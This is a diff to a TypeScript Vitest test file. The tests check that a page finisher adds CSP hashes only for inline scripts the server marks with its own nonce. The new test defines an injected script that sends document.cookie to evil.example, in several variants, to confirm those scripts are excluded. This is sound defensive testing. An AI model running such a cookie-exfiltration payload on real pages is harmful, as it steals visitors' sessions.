@@ -1,11 +1,13 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
-import { finishDocument, scriptHashes, type DocumentSettings, type FinishedPage } from './document.ts';
+import { finishDocument, ownScripts, scriptHashes, type DocumentSettings, type FinishedPage } from './document.ts';
 
+// The render marks the scripts React Router (and React) emit with a nonce of its own, unknown to anyone else.
+const MARK = 'r4nd0mM4rk';
 const HTML =
-  '<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/entry.js"/></head><body><main>Hi</main>' +
-  '<script type="application/ld+json">{"@type":"Thing"}</script><script>window.__reactRouterContext = {};</script>' +
-  '<script type="module" async="">import "/assets/entry.js";\nwindow.__reactRouterManifest = {};</script></body></html>';
+  `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/entry.js" nonce="${MARK}"/></head><body><main>Hi</main>` +
+  `<script type="application/ld+json">{"@type":"Thing"}</script><script nonce="${MARK}">window.__reactRouterContext = {};</script>` +
+  `<script type="module" async="" nonce="${MARK}">import "/assets/entry.js";\nwindow.__reactRouterManifest = {};</script></body></html>`;
 
 const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
 
@@ -20,7 +22,7 @@ function settings(kept: FinishedPage[] = []): DocumentSettings {
 }
 
 const finish = (headers: Record<string, string> = {}, status = 200, responseHeaders = new Headers(), kept: FinishedPage[] = []) =>
-  finishDocument(new Request('http://site.local/blog', { headers }), status, responseHeaders, HTML, settings(kept));
+  finishDocument(new Request('http://site.local/blog', { headers }), status, responseHeaders, HTML, settings(kept), MARK);
 
 describe('the finished document', () => {
   it('is the same bytes for every visitor, with a CSP listing the hash of each script it runs', async () => {
@@ -60,8 +62,27 @@ describe('the finished document', () => {
   });
 
   it('hashes only scripts a browser runs', () => {
-    expect(scriptHashes('<script src="/a.js"></script><script type="application/json">{}</script><script>x()</script>')).toEqual([
-      hash('x()'),
-    ]);
+    const html = `<script nonce="${MARK}" src="/a.js"></script><script nonce="${MARK}" type="application/json">{}</script><script nonce="${MARK}">x()</script>`;
+    expect(scriptHashes(ownScripts(html, MARK))).toEqual([hash('x()')]);
+  });
+
+  it('hashes only the scripts the server emits: an inline script that came with the content gets no hash, and the mark leaves no trace', async () => {
+    const foreign = 'fetch("https://evil.example/?" + document.cookie)';
+    for (const injected of [
+      `<script>${foreign}</script>`,
+      `<script nonce="guess">${foreign}</script>`,
+      `<script type="module">${foreign}</script>`,
+      // A lookalike of React Router's bootstrap, ahead of the real one: paint-first must not start it.
+      `<script type="module">${foreign};window.__reactRouterManifest = {};</script>`,
+    ]) {
+      const html = HTML.replace('<main>Hi</main>', `<main>Hi${injected}</main>`);
+      const response = finishDocument(new Request('http://site.local/blog'), 200, new Headers(), html, settings(), MARK);
+      const csp = response.headers.get('content-security-policy')!;
+      expect(csp, injected).not.toContain(hash(foreign));
+      expect(csp, injected).not.toContain(hash(`${foreign};window.__reactRouterManifest = {};`));
+      expect(csp).toContain(hash('window.__reactRouterContext = {};'));
+      expect(csp).toContain(hash('import "/assets/entry.js";\nwindow.__reactRouterManifest = {};'));
+      expect(await response.text()).not.toContain(MARK);
+    }
   });
 });
